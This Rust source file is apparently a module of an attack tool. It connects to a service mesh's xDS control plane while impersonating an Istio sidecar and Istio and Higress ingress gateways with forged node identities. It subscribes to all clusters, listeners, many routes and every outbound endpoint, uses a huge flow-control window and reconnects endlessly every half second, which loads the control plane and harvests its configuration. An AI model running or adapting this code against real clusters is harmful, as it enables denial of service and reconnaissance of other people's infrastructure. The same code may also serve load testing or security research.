//! Whoever asks for what is made of the tenant's objects: a proxy of it, and gateways that all share.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::task::JoinSet;

use crate::attack::Target;
use crate::peer::{Messages, Peer, Reads};
use crate::proto::{self, Node, Request, Response};
use crate::wire;

/// A window that takes whatever comes.
const WINDOW: u32 = 1 << 30;
/// Names of endpoints that are asked for at once.
const NAMES: usize = 20_000;

/// Connects them; dropping it ends them.
pub(super) fn start(target: &Arc<Target>) -> JoinSet<()> {
    let mut tasks = JoinSet::new();
    let ports = [80, 443, 8080, 15_443].into_iter().chain(1_000..1_064);
    let of_mesh: Vec<String> = ports.clone().map(|port| port.to_string()).collect();
    let of_gateways: Vec<String> = ports.map(|port| format!("http.{port}")).collect();
    let sidecar = Node::of(900_010, "n1", "s0");
    let gateways = [
        gateway(900_011, "istio-system", ("istio", "ingressgateway")),
        gateway(
            900_012,
            "higress-system",
            ("higress", "higress-system-higress-gateway"),
        ),
    ];
    let all = std::iter::once((sidecar, of_mesh))
        .chain(gateways.into_iter().map(|node| (node, of_gateways.clone())));
    for (node, routes) in all {
        let to = target.xds;
        tasks.spawn(async move {
            // A server that turns it away keeps its promises to others.
            loop {
                let _ = follow(to, &node.encode(), &routes).await;
                tokio::time::sleep(Duration::from_millis(500)).await;
            }
        });
    }
    tasks
}

fn gateway(number: usize, namespace: &str, (key, value): (&str, &str)) -> Node {
    let mut node = Node::of(number, namespace, "gateway");
    node.id = node.id.replacen("sidecar~", "router~", 1);
    node.labels.push((key.to_owned(), value.to_owned()));
    node
}

/// Takes whatever a node gets, until the connection ends.
async fn follow(to: SocketAddr, node: &[u8], routes: &[String]) -> io::Result<()> {
    let mut peer = Peer::open(to, WINDOW, Reads::Bodies).await?;
    let stream = peer.call(&wire::ads()).await?;
    let none: &[String] = &[];
    let wanted = [
        (proto::CLUSTER, none),
        (proto::LISTENER, none),
        (proto::ROUTE, routes),
    ];
    for (at, (ty, subscribe)) in wanted.into_iter().enumerate() {
        let request = Request {
            node: if at == 0 { node } else { &[] },
            ty,
            subscribe,
            ..Request::default()
        };
        peer.data(stream, &request.encode()).await?;
    }
    let (mut messages, mut taken) = (Messages::default(), 0_u32);
    while let Some(frame) = peer.bodies.recv().await {
        taken += frame.payload.len() as u32;
        messages.push(&frame.payload);
        while let Some(message) = messages.pop() {
            let Some(response) = Response::read(message) else {
                return Err(io::ErrorKind::InvalidData.into());
            };
            answer(&mut peer, stream, &response).await?;
        }
        if taken > WINDOW / 4 {
            for stream in [0, stream] {
                let more = taken.to_be_bytes();
                peer.send(&wire::frame(wire::WINDOW_UPDATE, 0, stream, &more))
                    .await?;
            }
            taken = 0;
        }
    }
    Ok(())
}

async fn answer(peer: &mut Peer, stream: u32, response: &Response) -> io::Result<()> {
    let ty = std::str::from_utf8(&response.ty).unwrap_or_default();
    let taken = Request {
        ty,
        nonce: &response.nonce,
        ..Request::default()
    };
    peer.data(stream, &taken.encode()).await?;
    if ty != proto::CLUSTER {
        return Ok(());
    }
    let names = response.resources.iter().map(|(name, _)| name);
    let names = names.filter(|name| name.starts_with(b"outbound|"));
    let names: Vec<String> = names
        .map(|name| String::from_utf8_lossy(name).into_owned())
        .collect();
    for names in names.chunks(NAMES) {
        let request = Request {
            ty: proto::ENDPOINT,
            subscribe: names,
            ..Request::default()
        };
        peer.data(stream, &request.encode()).await?;
    }
    Ok(())
}
